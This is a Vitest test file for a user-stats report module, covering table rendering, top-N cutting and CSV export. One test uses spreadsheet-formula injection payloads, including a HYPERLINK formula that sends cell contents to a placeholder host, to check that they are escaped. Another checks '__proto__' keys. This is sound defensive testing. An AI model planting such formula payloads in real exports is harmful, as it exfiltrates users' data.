import { describe, expect, it } from "vitest";
import {
  buildReport,
  renderReportText,
  reportSubject,
  reportToCsv,
  topOf,
  type CountsReader,
} from "../../lib/report";
import type { ReportDimension } from "../../lib/report-query";

const ALL: [string, number][] = [
  ["Houston, TX", 30],
  ["Austin, TX", 20],
  ["Springfield, ??", 10],
];
const calls: unknown[] = [];
const source: CountsReader = {
  total: window => (window?.from !== undefined ? 5 : 60),
  counts: (dim, opts = {}) => {
    calls.push({ dim, ...opts });
    return opts.top === undefined ? ALL : ALL.slice(0, opts.top);
  },
};

describe("report", () => {
  const now = new Date("2026-11-27T08:00:00.000Z");
  /** The report of these counts (biggest first) by one dimension. */
  const reportOf = (by: ReportDimension, counts: [string, number][]) =>
    buildReport({ total: () => counts.length, counts: () => counts }, { by }, now);

  it("keeps the order of the counts (biggest first), the total and the filters", () => {
    const r = buildReport(source, { by: "city" }, now);
    expect(r).toEqual({
      timestamp: "2026-11-27T08:00:00.000Z",
      total: 60,
      filters: { by: "city" },
      stats: { "Houston, TX": 30, "Austin, TX": 20, "Springfield, ??": 10 },
    });
    expect(Object.keys(r.stats)).toEqual(["Houston, TX", "Austin, TX", "Springfield, ??"]);
    expect(buildReport(source, { by: "city", top: 1 }, now).stats).toEqual({ "Houston, TX": 30 });
  });

  it("passes the window to the source and counts the total in it", () => {
    calls.length = 0;
    const r = buildReport(source, { by: "state", from: "2026-11-01T00:00:00.000Z" }, now);
    expect(r.total).toBe(5);
    expect(calls).toEqual([{ dim: "state", from: "2026-11-01T00:00:00.000Z", top: undefined }]);
  });

  it("puts the date and the total in the subject", () => {
    expect(reportSubject(buildReport(source, { by: "city" }, now))).toBe(
      "User stats report, 2026-11-27: 60 users",
    );
  });

  it("renders a readable table with shares and a line for the rest", () => {
    const text = renderReportText(buildReport(source, { by: "city" }, now), { rows: 2 });
    expect(text).toContain("Distinct users: 60");
    expect(text).toMatch(/^City\s+Users\s+Share$/m);
    expect(text).toMatch(/Houston, TX\s+30\s+50\.0%/);
    expect(text).toMatch(/Austin, TX\s+20\s+33\.3%/);
    expect(text).not.toMatch(/Springfield/);
    expect(text).toMatch(/\(1 more\)\s+10\s+16\.7%/);
  });

  it("lines the columns up: heading, rule and every row end at the same place", () => {
    const text = renderReportText(buildReport(source, { by: "city" }, now), { rows: 2 });
    const table = text.slice(text.indexOf("City")).trimEnd().split("\n");
    expect(table).toHaveLength(5);
    expect(new Set(table.map(l => l.length)).size).toBe(1);
    expect(table[1]).toMatch(/^-+ {2}-+ {2}-+$/);
  });

  it("lines up the rest line wider than the keys and counts wider than the users heading", () => {
    const r = buildReport(
      {
        total: () => 20_000_000,
        counts: () => [
          ["TX", 12_345_678],
          ["CA", 10],
          ...Array.from({ length: 12 }, (_, i): [string, number] => [`S${i}`, 1]),
        ],
      },
      { by: "state" },
      now,
    );
    const text = renderReportText(r, { rows: 2 });
    const table = text.slice(text.indexOf("State")).trimEnd().split("\n");
    expect(table).toHaveLength(5);
    expect(new Set(table.map(l => l.length)).size).toBe(1);
    expect(table[2]).toMatch(/^TX +12,345,678 +61\.7%$/);
    expect(table[4]).toMatch(/^\(12 more\) +12 +0\.0%$/);
  });

  it("cuts a report to its first keys, saying so in filters.top only when keys were left out", () => {
    const r = buildReport(source, { by: "city" }, now);
    expect(topOf(r, 2)).toEqual({
      ...r,
      filters: { by: "city", top: 2 },
      stats: { "Houston, TX": 30, "Austin, TX": 20 },
    });
    expect(topOf(r, 3)).toBe(r);
    expect(topOf(buildReport(source, { by: "city", top: 1 }, now), 2).filters.top).toBe(1);
  });

  it("says which window the report covers", () => {
    const text = renderReportText(
      buildReport(source, { by: "city", from: "2026-11-01T00:00:00.000Z" }, now),
    );
    expect(text).toContain("Events from 2026-11-01T00:00:00.000Z to now");
  });

  it("renders an empty report without dividing by zero", () => {
    const empty = buildReport({ total: () => 0, counts: () => [] }, { by: "city" }, now);
    expect(renderReportText(empty)).toContain("Distinct users: 0");
  });

  it("writes CSV with city, state and country columns, quoting where needed", () => {
    const r = reportOf("city", [
      ["Winston-Salem, NC", 2],
      ['Odd, "Name", ??', 1],
      ["Paris (FR)", 1],
    ]);
    expect(reportToCsv(r)).toBe(
      'city,state,country,users\nWinston-Salem,NC,US,2\n"Odd, ""Name""",,,1\nParis,,FR,1\n',
    );
    const states = reportOf("state", [
      ["TX", 2],
      ["??", 1],
    ]);
    expect(reportToCsv(states)).toBe("state,users\nTX,2\n,1\n");
  });

  it("writes place names that a spreadsheet would run as formulas as text", () => {
    const r = reportOf("city", [
      ['=HYPERLINK("http://x.example/?"&A1), ??', 1],
      ["@SUM(1+1), TX", 1],
      ["-Minus, ??", 1],
    ]);
    expect(reportToCsv(r)).toBe(
      'city,state,country,users\n"\'=HYPERLINK(""http://x.example/?""&A1)",,,1\n\'@SUM(1+1),TX,US,1\n\'-Minus,,,1\n',
    );
  });

  it("counts a key named __proto__ like any other", () => {
    const r = reportOf("country", [
      ["US", 2],
      ["__proto__", 1],
    ]);
    expect(Object.keys(r.stats)).toEqual(["US", "__proto__"]);
    expect((JSON.parse(JSON.stringify(r)) as typeof r).stats).toEqual(r.stats);
    expect(reportToCsv(r)).toBe("country,users\nUS,2\n__proto__,1\n");
  });
});
